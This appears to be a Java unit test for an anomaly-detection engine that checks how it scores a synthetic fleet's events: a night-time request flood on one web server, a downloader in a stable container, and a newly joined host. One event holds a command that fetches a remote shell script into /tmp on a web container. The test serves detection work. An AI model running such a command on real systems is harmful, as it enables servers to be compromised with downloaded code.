package org.auditml.audit;

import org.auditml.engine.AnomalyJob;
import org.auditml.engine.TestFleet;
import org.auditml.engine.job.JobParser;
import org.auditml.engine.result.AnomalyRecord;
import org.auditml.engine.result.Result;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * More of the fleet's story: a night-time flood on a web server, a downloader inside a long-stable container, and a
 * host that joins halfway. The incidents are found in their bucket and partition with critical scores; the newcomer's
 * learning period raises nothing critical.
 */
class ScenarioSuiteTest {
    private static final long HOUR = 3_600_000L;
    private static final long START = 1_700_438_400_000L; // Monday
    private static final long FLOOD_HOUR = START + (16 * 24 + 3) * HOUR;
    private static final long DOWNLOADER = START + (17 * 24 + 14) * HOUR + 22 * 60_000;
    private static final long JOINS = START + 10 * 24 * HOUR;

    static List<ContextScenarioTest.Event> stream() {
        Random r = new Random(5);
        List<ContextScenarioTest.Event> events = new ArrayList<>(ContextScenarioTest.fleet());
        for (int i = 0; i < 150; i++) {
            events.add(new ContextScenarioTest.Event(FLOOD_HOUR + r.nextInt(3_600_000), "web-01", "/usr/bin/curl",
                    "alice", "1000", "curl -s http://127.0.0.1/healthz"));
        }
        String[] containerPrograms = {"/usr/sbin/nginx", "/usr/sbin/php-fpm8.2", "/usr/bin/php8.2"};
        String[] web03 = {"/usr/bin/ls", "/usr/bin/grep", "/usr/bin/cat", "/usr/bin/python3", "/usr/bin/ps",
                "/usr/sbin/logrotate", "/usr/bin/dpkg", "/usr/bin/apt-get"};
        for (long h = START; h < START + 21 * 24 * HOUR; h += HOUR) {
            for (int i = 0; i < 6; i++) {
                events.add(new ContextScenarioTest.Event(h + r.nextInt(3_600_000), "shop-web",
                        containerPrograms[r.nextInt(containerPrograms.length)], "www-data", "33", "php-fpm: pool www"));
            }
            if (h >= JOINS) {
                for (int i = 0; i < 10; i++) {
                    events.add(new ContextScenarioTest.Event(h + r.nextInt(3_600_000), "web-03",
                            web03[r.nextInt(web03.length)], "root", "0", "setup"));
                }
            }
        }
        events.add(new ContextScenarioTest.Event(DOWNLOADER, "shop-web", "/usr/bin/wget", "www-data", "33",
                "wget -q http://203.0.113.50/x.sh -O /tmp/x.sh"));
        events.sort(Comparator.comparingLong(ContextScenarioTest.Event::timestampMillis));
        return events;
    }

    private static List<AnomalyRecord> run(String json) {
        AnomalyJob job = new AnomalyJob(JobParser.parse(json, "suite"), new LinuxRarityContext());
        List<Result> results = new ArrayList<>();
        stream().forEach(e -> results.addAll(job.accept(e)));
        results.addAll(job.flush());
        return TestFleet.records(results);
    }

    @Test
    void rateJob_nightTimeFlood_isCriticalInItsHourAndHost() {
        List<AnomalyRecord> records = run("""
                {"analysis_config": {"bucket_span": "1h", "auditml_severity": "anchored", "detectors": [{"function": "high_non_zero_count",
                  "partition_field_name": "host.name"}]}}""");

        AnomalyRecord flood = records.stream().filter(r -> r.timestamp() == FLOOD_HOUR).findFirst().orElseThrow();
        assertThat(flood.partitionFieldValue()).isEqualTo("web-01");
        assertThat(flood.recordScore()).isGreaterThanOrEqualTo(75);
        assertThat(flood.reason()).contains("at 03:00");
    }

    @Test
    void rareJobWithContext_downloaderInAStableContainer_isCritical_andTheNewcomerIsNot() {
        List<AnomalyRecord> records = run("""
                {"analysis_config": {"bucket_span": "1h", "auditml_context": true, "detectors": [{"function": "rare",
                  "by_field_name": "process.executable", "partition_field_name": "host.name"}]}}""");

        AnomalyRecord wget = records.stream().filter(r -> "/usr/bin/wget".equals(r.byFieldValue())).findFirst().orElseThrow();
        assertThat(wget.partitionFieldValue()).isEqualTo("shop-web");
        assertThat(wget.timestamp()).isEqualTo(DOWNLOADER / HOUR * HOUR);
        assertThat(wget.recordScore()).isGreaterThanOrEqualTo(75);
        assertThat(wget.reason()).contains("no new program there");
        assertThat(records).filteredOn(r -> "web-03".equals(r.partitionFieldValue()))
                .allSatisfy(r -> assertThat(r.recordScore()).isLessThan(75));
    }
}
